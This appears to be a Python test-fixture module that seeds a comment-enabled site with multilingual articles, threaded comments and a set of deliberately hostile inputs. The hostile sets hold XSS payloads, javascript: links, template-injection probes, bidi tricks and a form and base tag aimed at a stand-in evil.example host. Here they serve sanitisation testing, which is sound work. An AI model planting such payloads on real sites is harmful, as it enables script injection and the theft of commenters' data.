"""What does the site hold that browsers look at?"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

# A picture that the site itself serves, so that no test needs another network.
PICTURE = "/avatars/0f3a9c5e71b2d846.svg"

HARBOUR = f"""For six hours the harbour has water, and for six it has none. People who moor here learn to read a table
before they learn to sail.

## Twice a day the boats sit down

At low water every keel touches the mud. Boats with two keels stand upright, and the others on a leg. *Nobody*
calls this an accident: it is the cheapest dry dock on the coast, and you can walk round your own hull in boots. See
[the tide tables](https://tides.example.org/tables) before you plan a walk.

<figure><img src="{PICTURE}" alt="Two boats leaning on wooden legs, seen from the quay." width="1200" height="800">
<figcaption>Low water on a Tuesday. The left boat has stood there since spring.</figcaption></figure>

### What the mud keeps

- Shoes, always one of a pair.
- An anchor that belongs to nobody.
- A radio that still worked when it was found.

> We dig up a little of everything, and we give back what somebody misses.

### What it gives back

Whatever is lost in autumn comes up in March, eighty metres further east.

## The table on the wall

The harbour office prints the heights for a week.

| day | high water | low water | height in m |
| --- | --- | --- | ---: |
| Monday | 06:10 | 12:25 | 4.1 |
| Tuesday | 06:58 | 13:12 | 4.4 |
| Wednesday | 07:44 | 13:57 | 4.6 |

```python
def next_high_water(last: float) -> float:
    return last + 12.42  # hours
```

## Who pays for the lamp

The lamp costs less than the coffee in the office. It is paid by the four families who came with it, and each May one of
them cleans the glass.

#### A very long heading that nobody would print, about the lamp, its glass, its keeper and all that was ever said

Averylongwordthatnoeditorhasbrokenandnodictionaryholdsbutthatstandsherebecausereaderswritesuchthingsallthetimeandphonesarenarrow.

## How to come here

By bus, twice a day, when the causeway is dry.
"""

LIBRARY_DE = """Die Stadtbibliothek verleiht seit dem Frühjahr auch Lastenräder.

## Wie man eines ausleiht

Mit dem Bibliotheksausweis, für höchstens drei Tage. Donaudampfschifffahrtsgesellschaftskapitänsmützen bleiben im Haus.

## Was es kostet

Nichts, solange das Rad „sauber und am selben Ort“ zurückkommt.
"""

MARKET_KO = """어시장은 새벽 네 시에 열리고, 해가 뜨기 전에 벌써 마지막 상자가 팔려 나간다.

## 새벽 네 시

상인들은 말없이 손가락으로 값을 부른다. 처음 온 사람은 아무것도 알아듣지 못한다.

## 안개 낀 날

연락선은 안개가 짙은 날에는 뜨지 않으며, 섬 아이들은 그런 날 학교에 가지 않는다.
"""

WELL_AR = """كان أهل القرية يجتمعون كل مساء حول البئر القديمة ليتبادلوا أخبار القوافل العابرة.

## كتب تعرف طريقها

اختار أطفال كل قرية عشرين كتابًا، وكتبوا أسماءهم على بطاقة صغيرة في آخر صفحة.

## ماذا يقرأ الكبار؟

قالت أمينة المكتبة إن الكبار طلبوا كتب الطبخ والشعر، ثم عادوا يطلبون المزيد من **Flask 3.1** أيضًا.
"""

# Each says so, where it runs, by setting `window.ran`.
HOSTILE_HTML = (
    "<script>window.ran = 1</script>",
    '<img src="/health/live" alt="No picture" width="20" height="20" onerror="window.ran = 2">',
    '<svg onload="window.ran = 3"><circle r="9"/></svg>',
    '<a href="javascript:window.ran = 4">click here</a>',
    '<iframe srcdoc="<script>parent.ran = 5</script>"></iframe>',
    '<div style="position:fixed;inset:0;background:red" id="comments">covered</div>',
    '<form action="https://evil.example/"><input name="author_email"><button>Post Comment</button></form>',
    "</p></div></li></ol></section><h1>Out of the frame</h1>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<template data-rj-words data-new-replies="owned"></template><li data-id="1" data-rj-thread>me</li>',
)
HOSTILE_MARKDOWN = (
    "[click](javascript:window.ran=6) and [click](data:text/html,<script>window.ran=7</script>)",
    '![picture](https://evil.example/pixel.png "onload=window.ran=8")',
    "[a](https://example.org/\"onmouseover='window.ran=9')",
    "`</code><script>window.ran = 10</script>` and ```\n</pre><script>window.ran = 11</script>\n```",
    "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "\u202eredro ni ton era sdrow eseht\u202c and \u2066isolated",
    "Z\u0351\u036b\u0343a\u0363\u034bl\u034f\u034cg\u0357\u0306o\u0314\u0310 " * 12,
    "W" * 900,
    "> " * 30 + "deep",
    "&lt;script&gt;window.ran = 12&lt;/script&gt; &amp;lt;b&amp;gt;",
)
HOSTILE_NAMES = (
    '<b onclick="window.ran=13">Bold</b>',
    '"><script>window.ran=14</script>',
    "{{ config }} ${name} {name}",
    "Ada\u200f\u200e Lovelace",
    "N" * 245,
)

HOSTILE_ARTICLE = f"""Before. <img src="{PICTURE}" alt=Face width=20 height=20 onload="window.ran=14"> {HOSTILE_HTML[3]}

{HOSTILE_HTML[0]}

## <img src={PICTURE} alt="A face" width=20 height=20 onload="window.ran=15"> A heading with "quotes" & <b>marks</b>

{HOSTILE_HTML[2]}

{HOSTILE_HTML[5]}

## respond

An anchor that the page has itself.

## comments

And another.

{HOSTILE_HTML[8]}
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Article:
    """One to be seeded: `fields` go to the API as they are."""

    key: str
    title: str
    body: str
    days_old: float
    fields: Mapping[str, Any] = field(default_factory=dict)


ARTICLES: Sequence[Article] = (
    Article(
        key="long",
        title="The harbour that falls dry",
        body=HARBOUR,
        days_old=9,
        fields={
            "standfirst": "A harbour with water for half of the day, and the people who plan their lives around it.",
            "byline": "Ines Okafor",
            "categories": ["Sea", "Work"],
            "tags": ["tides", "boats", "lamps"],
        },
    ),
    Article(
        key="short",
        title="Fog",
        body="No ferry today.",
        days_old=30,
        fields={"byline": "Port office", "categories": ["Sea"]},
    ),
    Article(
        key="busy",
        title="Should the causeway get a railing?",
        body="The council asks.\n\n## For\n\nIt is slippery.\n\n## Against\n\nThe gulls would sit on it.\n",
        days_old=12,
        fields={"categories": ["Town"]},
    ),
    Article(
        key="closed",
        title="The old pier is closed",
        body="It was a good pier.\n\n## Why\n\nWorms.\n",
        days_old=60,
        fields={"categories": ["Town"]},
    ),
    Article(
        key="german",
        title="Lastenräder aus der Bibliothek",
        body=LIBRARY_DE,
        days_old=6,
        fields={"language": "de", "categories": ["Stadt"], "byline": "Jürgen Weiß"},
    ),
    Article(
        key="korean", title="새벽의 어시장", body=MARKET_KO, days_old=7, fields={"language": "ko", "byline": "박서연"}
    ),
    Article(
        key="arabic",
        title="مكتبة على ظهر جمل",
        body=WELL_AR,
        days_old=8,
        fields={"language": "ar", "byline": "ليلى حداد", "categories": ["ثقافة"]},
    ),
    Article(
        key="hostile",
        title="<script>window.ran=16</script> \"Quotes\" & 'more' </title>",
        body=HOSTILE_ARTICLE,
        days_old=8,
        fields={
            "standfirst": '<img src=x onerror="window.ran=17"> --> ]]> </script>',
            "byline": '</script><script>window.ran=18</script> "B"',
            "categories": ["<b>Bold</b>"],
            "tags": ['"quoted" <i>', "a/b?c#d"],
        },
    ),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Said:
    """One comment to be seeded under the article `on`; `key` is its name in `site.comments`.

    `becomes` is what a moderator makes of it: approve, spam, trash, or nothing where it stays held.
    """

    key: str
    on: str
    text: str
    name: str = "Ada Berg"
    answers: str | None = None
    section: str | None = None
    website: str | None = None
    becomes: str | None = "approve"


LIVELY: Sequence[Said] = (
    Said(key="first", on="long", name="Maren Hale", website="https://hale.example.org",
         text="A harbour without water. I have waited for somebody to explain this to me for **ten years**."),
    Said(key="mud", on="long", name="J. Brandt", section="twice-a-day-the-boats-sit-down",
         text="Does the mud not ruin the paint?\n\nAsking for a friend who has a wooden boat."),
    Said(key="paint", on="long", name="Seo-yun Park", answers="mud", text="It does. He paints it in April, like all."),
    Said(key="april", on="long", name="J. Brandt", answers="paint", text="In April it rains."),
    Said(key="rain", on="long", name="Seo-yun Park", answers="april", text="Then he paints it *twice*."),
    Said(key="twice", on="long", name="Maren Hale", answers="rain", text="> Then he paints it twice.\n\nSo be it."),
    Said(key="deepest", on="long", name="J. Brandt", answers="twice", text="Thank you both. He has bought a brush."),
    Said(key="lamp", on="long", name="Åsa Nyström", section="who-pays-for-the-lamp",
         text="My grandmother cleaned that glass. She said the trick is:\n\n1. vinegar\n2. newspaper\n3. patience"),
    Said(key="gone", on="long", name="Somebody", text="A comment that will be taken away, though it has an answer."),
    Said(key="left", on="long", name="Ada Berg", answers="gone", text="I answer what will be gone, and I stay."),
    Said(key="code", on="long", name="Ben", section="the-table-on-the-wall",
         text="Your function is wrong by a minute:\n\n```python\nreturn last + 12.4206\n```\n\nSee https://tides.example.org/why."),
    Said(key="german", on="long", name="Jürgen Weiß", text="Gibt es dort auch Schließfächer? Grüße aus Düsseldorf!"),
    Said(key="arabic", on="long", name="ليلى", text="ميناء بلا ماء! شكرا على هذه المقالة الجميلة."),
    Said(key="spammed", on="long", name="Cheap Lamps", text="Buy lamps at https://lamps.example.com", becomes="spam"),
    Said(key="trashed", on="long", name="Nobody", text="asdf asdf asdf", becomes="trash"),
    Said(key="on german", on="german", name="Jürgen Weiß", section="was-es-kostet",
         text="Nichts? Das glaube ich erst, wenn ich es sehe."),
    Said(key="under german", on="german", name="Anneliese Groß", answers="on german", text="Ich habe es gesehen."),
    Said(key="on korean", on="korean", name="김민준", text="저도 새벽 네 시에 가 보았습니다. 정말 조용하더군요."),
    Said(key="on arabic", on="arabic", name="سامي", text="أريد أن أعرف اسم الجمل. **هل له اسم؟**"),
    Said(key="under arabic", on="arabic", name="ليلى", answers="on arabic", text="اسمه «نور»، وهو يحب التمر."),
    Said(key="on closed", on="closed", name="Ada Berg", text="Goodbye, pier."),
)  # fmt: skip

# They wait, each for another reason.
HELD: Sequence[Said] = (
    Said(key="held first", on="long", name="New Reader", becomes=None, section="how-to-come-here",
         text="Hello, this is my first comment here. Which bus is it?"),
    Said(key="held links", on="long", name="Linda Links", becomes=None,
         text="Compare https://one.example.com and https://two.example.com and <https://three.example.com>."),
    Said(key="held word", on="long", name="Lucky", becomes=None, text="There was a casino here, was there not?"),
    Said(key="held answer", on="long", name="Tom", answers="mud", becomes=None, text="What kind of paint, though?"),
    Said(key="held german", on="german", name="Käthe", becomes=None, text="Und wo ist das zweite Rad?"),
    Said(key="held korean", on="korean", name="이서윤", becomes=None, text="버스는 몇 시에 있나요?"),
    Said(key="held arabic", on="arabic", name="مريم", becomes=None, text="متى تعود المكتبة إلى قريتنا؟"),
    Said(key="held busy", on="busy", name="Gull", becomes=None, text="We would *love* a railing."),
)  # fmt: skip

# More conversations than one page of the thread shows.
CROWD: Sequence[Said] = tuple(
    Said(key=f"busy {number}", on="busy", name=f"Neighbour {number}", section=("for", "against", None)[number % 3],
         text=f"This is what I, neighbour {number}, think of the railing.")
    for number in range(1, 46)
)  # fmt: skip

HOSTILE: Sequence[Said] = (
    *(
        Said(key=f"hostile {number}", on="hostile", name=f"Mallory {number}", text=text)
        for number, text in enumerate([*HOSTILE_HTML, *HOSTILE_MARKDOWN])
    ),
    *(
        Said(key=f"hostile name {number}", on="hostile", name=name, text=f"My name is number {number}.")
        for number, name in enumerate(HOSTILE_NAMES)
    ),
    *(
        Said(key=f"hostile held {number}", on="hostile", name=f"Eve {number}", text=f"{text} (held)", becomes=None)
        for number, text in enumerate(HOSTILE_HTML[:6])
    ),
)
EVERYTHING_SAID = (*LIVELY, *CROWD, *HOSTILE, *HELD)
